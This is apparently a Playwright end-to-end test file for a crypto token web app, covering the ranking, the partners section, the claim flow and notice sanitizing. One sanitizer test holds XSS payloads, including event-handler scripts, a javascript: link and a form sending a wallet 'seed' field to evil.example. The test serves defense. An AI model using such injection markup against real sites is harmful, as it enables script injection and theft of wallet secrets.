import type { Page } from '@playwright/test';
import { parseEther } from 'viem';
import { formatSmall2 } from '../../../apps/web/src/format/amounts.ts';
import { WITH_MOTION } from '../app/depth.ts';
import { waitUntilSettled } from '../app/waitUntilSettled.ts';
import { sanitizeNotice } from '../../../apps/server/src/notices/sanitizeNotice.ts';
import { expect, test } from '../app/test.ts';
import { apiUrl } from '../stack/addresses.ts';
import { InjectedWallet } from '../wallet/InjectedWallet.ts';

test.use({ contextOptions: WITH_MOTION });

const place = (page: Page, tier: string) =>
  page.getByRole('list', { name: `Community ranking, ${tier}` }).getByRole('listitem');

/** Scrolls to the ranking, which mounts when near the screen. */
const toRanking = (page: Page) => page.getByRole('region', { name: 'TOP349' }).scrollIntoViewIfNeeded();

/** Scrolls to the about section, which mounts when near the screen. */
const toAbout = (page: Page) => page.getByRole('region', { name: 'The token' }).scrollIntoViewIfNeeded();

// shows HO-02
test('tiles show what is coming soon, and the school opens in a new window', async ({ openApp, page }) => {
  await page.clock.install();
  const app = await openApp();
  const { texts } = app;
  for (const name of ['power', 'fight101', 'dao'] as const) {
    await page.getByRole('button', { name: texts.home.tiles[name], exact: true }).click();
    await expect(app.toast('Coming soon')).toHaveCount(1);
    await expect(page).toHaveURL('/');
    await page.clock.runFor(3_000);
    await expect(app.toast('Coming soon')).toHaveCount(0);
  }
  const opened = page.waitForEvent('popup');
  await page.getByRole('link', { name: texts.home.tiles.school }).click();
  expect(new URL((await opened).url()).pathname).toBe('/pages/docs.html');
});

// shows HO-06, HO-08, HO-09, HO-10
test('TOP349 loads ten rows a second after its end is near, and its numbering continues through the tiers', async ({
  chain,
  openApp,
  page,
}) => {
  const pool = await chain.client.readContract({ ...chain.contracts.top101, functionName: 'totalAmount' });
  await page.clock.install();
  await openApp();
  await waitUntilSettled(page);
  // The end of the list may come into view at once, so control the time from now on.
  await page.clock.pauseAt(new Date(Date.now() + 60_000));
  await toRanking(page);
  const champions = place(page, 'Champion');
  await expect(async () => {
    await page.clock.runFor(50);
    expect(await champions.count()).toBe(10);
    // The pool is a separate answer, which may arrive later.
    expect(await champions.first().textContent()).toContain('KL');
  }).toPass({ intervals: [50], timeout: 15_000 });
  await expect(page.getByRole('img', { name: /^Place \d$/ })).toHaveCount(3);
  await expect(champions.nth(3)).toContainText(/^40x/);
  await expect(champions.first()).toContainText(`${formatSmall2((pool * 30n) / 49_000n)}KL`);

  const list = page.getByRole('region', { name: 'Community ranking, Champion' });
  // The list has a fixed height, so content below it does not move when more rows arrive.
  expect((await list.boundingBox())?.height).toBe(1020);
  await champions.last().scrollIntoViewIfNeeded();
  await expect(list).toHaveAttribute('aria-busy', 'true');
  await page.clock.runFor(900);
  await expect(champions).toHaveCount(10);
  await page.clock.runFor(200);
  await expect(champions).toHaveCount(20);
  expect((await list.boundingBox())?.height).toBe(1020);

  // The next rows load from 100 px before the end.
  const leaveBelow = (height: number) =>
    list.evaluate((element, left) => {
      element.scrollIntoView({ block: 'end', behavior: 'instant' });
      element.scrollTop = element.scrollHeight - element.clientHeight - left;
    }, height);
  await leaveBelow(102);
  await page.waitForTimeout(500);
  await expect(list).toHaveAttribute('aria-busy', 'false');
  await leaveBelow(98);
  await expect(list).toHaveAttribute('aria-busy', 'true');

  await page.clock.resume();
  await page.getByRole('tab', { name: 'Elite' }).click();
  await expect(place(page, 'Elite')).toHaveCount(10);
  await expect(place(page, 'Elite').first()).toContainText(/^500x/);
  await expect(place(page, 'Elite').first()).toContainText(`${formatSmall2((pool * 30n) / 100_000n)}KL`);
  await page.getByRole('tab', { name: 'Challenge' }).click();
  await expect(place(page, 'Challenge').first()).toContainText(/^1500x/);
  await expect(place(page, 'Challenge').first()).toContainText(`${formatSmall2((pool * 40n) / 200_000n)}KL`);
});

const withoutGaps = (html: string) => html.replaceAll(/\s+/g, ' ').trim();

test.describe('a notice', () => {
  // The sanitizer first parses what it removes, which makes the content security policy report its event handlers.
  // oxlint-disable-next-line no-empty-pattern -- Playwright reads the pattern.
  test.use({ soundPage: async ({}, use) => use(undefined) });

  // shows HO-15
  test('that is long keeps its title and its close button visible', async ({ openApp, page }) => {
    await page.setViewportSize({ width: 320, height: 640 });
    const content = Array.from({ length: 60 }, (_, index) => `<p>Line ${index}</p>`).join('');
    await page.route(`${apiUrl}/home/getNotice**`, (route) =>
      route.fulfill({ json: { code: 200, message: 'ok', data: { content } } }),
    );
    const app = await openApp();
    const notice = page.getByRole('dialog', { name: app.texts.home.noticeTitle });
    await notice.getByText('Line 59').scrollIntoViewIfNeeded();
    await expect(notice.getByText('Line 59')).toBeInViewport();
    await expect(notice.getByRole('heading')).toBeInViewport();
    await notice.getByRole('button', { name: app.texts.common.close }).click();
    await expect(notice).toHaveCount(0);
  });

  // shows HO-15
  test('that is hostile is shown as text at 320 px, once, and does nothing', async ({ openApp, page }) => {
    const hostile = `<h2>Pause</h2><script>window.stolen = 1</script><img src="x" onerror="window.stolen = 1">
      <p onclick="window.stolen = 1" style="position:fixed;inset:0" id="root" class="x">On <b>Sunday</b></p>
      <svg><script>window.stolen = 1</script></svg><iframe srcdoc="<script>parent.stolen = 1</script>"></iframe>
      <form action="https://evil.example"><input name="seed"><button>Go</button></form>
      <style>body { display: none }</style><a href="javascript:window.stolen=1">bad</a>
      <a href="http://koala.example/">plain</a><p>A picture: <img src="https://koala.example/x.png"></p>
      <a href="https://koala.example/news">good</a>`;
    await page.route(`${apiUrl}/home/getNotice**`, (route) =>
      route.fulfill({ json: { code: 200, message: 'ok', data: { title: '', content: hostile } } }),
    );
    const app = await openApp();
    const notice = page.getByRole('dialog', { name: app.texts.home.noticeTitle });
    await expect(notice.getByText('On Sunday')).toBeVisible();
    expect((await notice.boundingBox())?.width).toBe(320);
    await expect(
      notice.locator('script, iframe, form, input, style, svg script, [onclick], [onerror], #root'),
    ).toHaveCount(0);
    await expect(notice.getByRole('button')).toHaveCount(1);
    await notice.getByText('On Sunday').click();
    await notice.getByText('bad').click();
    await expect(notice.getByText('bad')).not.toHaveAttribute('href');
    const good = notice.getByRole('link', { name: 'good' });
    await expect(good).toHaveAttribute('target', '_blank');
    await expect(good).toHaveAttribute('rel', 'noopener noreferrer nofollow');
    // The page allows the same as the server, and nothing else.
    const body = good.locator('..');
    expect(withoutGaps(await body.innerHTML())).toBe(withoutGaps(sanitizeNotice(hostile)));
    expect(await page.evaluate(() => 'stolen' in window)).toBe(false);

    await notice.getByRole('button', { name: app.texts.common.close }).click();
    await expect(notice).toHaveCount(0);
    await app.tab('power').click();
    await app.tab('home').click();
    await expect(page.getByRole('heading', { name: app.texts.home.community.title })).toBeVisible();
    await expect(notice).toHaveCount(0);
  });
});

// shows HO-23
test('partners are in three columns', async ({ openApp, page }) => {
  const { texts } = await openApp();
  await toAbout(page);
  const partners = page
    .getByRole('heading', { name: texts.home.partners })
    .locator('xpath=..')
    .getByRole('listitem');
  await expect(partners).toHaveText(
    ['JuChain', 'JuCoin', 'AiBlock', 'JuCard', 'JuGame', 'JuChat', 'JuOne'].map(
      (name) => new RegExp(`${name}$`),
    ),
  );
  const boxes = await Promise.all((await partners.all()).map((partner) => partner.boundingBox()));
  expect(new Set(boxes.map((box) => Math.round(box?.x ?? 0))).size).toBe(3);
});

test("a holder's first screen has the reward, its worth and a claim that is reviewed in place", async ({
  chain,
  openApp,
  page,
}) => {
  const account = await chain.newAccount({ inviter: chain.inviter, power: parseEther('1000') });
  await chain.advance(3_600);
  const app = await openApp({ wallet: new InjectedWallet(account), signedIn: true });
  const { texts } = app;
  const card = page.getByRole('region', { name: texts.home.position.pending });
  const claim = card.getByRole('button', { name: texts.home.position.claim });
  await expect(claim).toBeEnabled();
  await expect(card.getByText(/^About [\d.,]+.USDT after the 10% fee$/)).toBeVisible();
  const box = await claim.boundingBox();
  expect(box!.y + box!.height).toBeLessThan(420);

  await claim.click();
  // The fixture confirms the review automatically.
  const balance = async () => (await chain.balances(account.address)).kl;
  await expect.poll(balance).toBeGreaterThan(0n);
  await expect(app.notice(texts.errors.claimSuccess)).toContainText(texts.flows.receipt.got);
  await expect(page).toHaveURL('/');
});
